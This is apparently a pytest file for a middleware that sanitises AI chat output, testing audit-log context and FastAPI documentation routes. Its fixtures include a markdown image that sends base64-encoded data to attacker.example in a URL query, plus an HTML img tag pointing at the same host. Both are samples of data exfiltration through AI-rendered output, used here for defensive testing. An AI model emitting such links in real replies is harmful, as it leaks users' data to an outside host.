"""The middleware on first use: the audit context of each request (a header, a hook),
and a FastAPI app that keeps its own documentation pages; real uvicorn, real httpx."""

from __future__ import annotations

import logging
from collections.abc import Iterator, Mapping

import httpx
import pytest
from fastapi import FastAPI
from fastapi.responses import StreamingResponse
from starlette.types import Scope

from backend import State, build
from rendersafe import Policy, sanitize
from rendersafe.audit import AuditLog, AuditRecord
from rendersafe.errors import PolicyError
from rendersafe.middleware import RenderSafeMiddleware
from servers import Server

IMAGE = "Look: ![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=) ok"


class Served:
    def __init__(self, **options: object) -> None:
        self.records: list[AuditRecord] = []
        self.audit = AuditLog([self.records.append])
        app = RenderSafeMiddleware(
            build(State()),
            policy=Policy(),
            audit=self.audit,
            **options,  # type: ignore[arg-type]
        )
        self.server = Server(app)

    def of(self, request_id: str) -> list[AuditRecord]:
        self.audit.flush()
        return [r for r in self.records if r.source.request_id == request_id]


def tenant(scope: Scope) -> Mapping[str, str] | None:
    if scope["path"] == "/v1/honest":
        raise RuntimeError("the hook fell over")
    return {"tenant": "acme", "path_seen": scope["path"]}


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    stack = Served(context_header="x-conversation-id", context=tenant)
    with stack.server:
        yield stack
    stack.audit.close()


def test_every_record_of_a_request_carries_its_context(served: Served) -> None:
    headers = {"x-request-id": "ctx-1", "x-conversation-id": "conv-42"}
    response = httpx.get(served.server.url + "/v1/stream/openai_chat.sse", headers=headers)
    assert response.status_code == 200
    findings = [r for r in served.of("ctx-1") if r.event == "finding"]
    assert findings
    for record in findings:
        assert record.context["conversation_id"] == "conv-42"
        assert record.context["tenant"] == "acme"
        assert record.context["path_seen"] == "/v1/stream/openai_chat.sse"


def test_error_records_carry_it_too(served: Served) -> None:
    headers = {"x-request-id": "ctx-2", "x-conversation-id": "conv-7"}
    assert httpx.get(served.server.url + "/v1/html", headers=headers).status_code == 502
    (error,) = [r for r in served.of("ctx-2") if r.event == "error"]
    assert error.context == {
        "conversation_id": "conv-7",
        "tenant": "acme",
        "path_seen": "/v1/html",
    }


def test_no_header_no_entry(served: Served) -> None:
    headers = {"x-request-id": "ctx-3"}
    httpx.get(served.server.url + "/v1/stream/anthropic.sse", headers=headers)
    records = served.of("ctx-3")
    assert records
    assert all("conversation_id" not in r.context for r in records)


def test_a_failing_hook_is_logged_and_the_reply_served(
    served: Served, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="rendersafe.middleware"):
        response = httpx.get(served.server.url + "/v1/honest")
    assert response.text == "Plain *prose*.\n"
    assert any("context hook raised" in r.message for r in caplog.records)


def test_the_hook_must_be_callable() -> None:
    with pytest.raises(PolicyError, match="context"):
        RenderSafeMiddleware(build(State()), policy=Policy(), context="conversation_id")  # type: ignore[arg-type]


def _api(**settings: str) -> FastAPI:
    api = FastAPI(**settings)  # type: ignore[arg-type]

    @api.get("/chat")
    def chat() -> StreamingResponse:
        pieces = [IMAGE[:20], IMAGE[20:]]
        return StreamingResponse(iter(pieces), media_type="text/markdown")

    @api.get("/answer")
    def answer() -> dict[str, str]:
        return {"answer": IMAGE}

    return api


@pytest.mark.parametrize(
    "settings",
    [{}, {"docs_url": "/api/docs", "redoc_url": "/api/redoc", "openapi_url": "/api/schema.json"}],
)
def test_fastapi_keeps_its_docs_with_the_middleware_added_by_default(
    settings: dict[str, str],
) -> None:
    api = _api(**settings)
    api.add_middleware(RenderSafeMiddleware, policy=Policy())
    schema_url = settings.get("openapi_url", "/openapi.json")
    with Server(api) as server, httpx.Client(base_url=server.url, timeout=10) as client:
        schema = client.get(schema_url)
        docs = client.get(settings.get("docs_url", "/docs"))
        redoc = client.get(settings.get("redoc_url", "/redoc"))
        oauth = client.get(str(api.swagger_ui_oauth2_redirect_url))
        chat, answer = client.get("/chat"), client.get("/answer")
    assert schema.status_code == 200
    assert schema.json() == api.openapi()
    assert docs.status_code == 200
    assert "swagger-ui" in docs.text
    assert schema_url in docs.text
    assert redoc.status_code == 200
    assert "redoc" in redoc.text
    assert oauth.status_code == 200
    # Everything else is still sanitised, and an HTML page of the app's own refused.
    assert chat.text == sanitize(IMAGE)
    assert answer.json() == {"answer": sanitize(IMAGE)}


def test_a_wrapped_fastapi_app_keeps_them_too() -> None:
    api = _api()
    with Server(RenderSafeMiddleware(api, policy=Policy())) as server:
        assert httpx.get(server.url + "/docs").status_code == 200
        assert httpx.get(server.url + "/openapi.json").json() == api.openapi()
        assert httpx.get(server.url + "/chat").text == sanitize(IMAGE)


def test_other_html_is_still_refused() -> None:
    api = _api(docs_url="/docs")

    @api.get("/page", response_class=StreamingResponse)
    def page() -> StreamingResponse:
        return StreamingResponse(
            iter(["<img src=https://attacker.example/x.png>"]), media_type="text/html"
        )

    api.add_middleware(RenderSafeMiddleware, policy=Policy())
    with Server(api) as server:
        assert httpx.get(server.url + "/page").status_code == 502
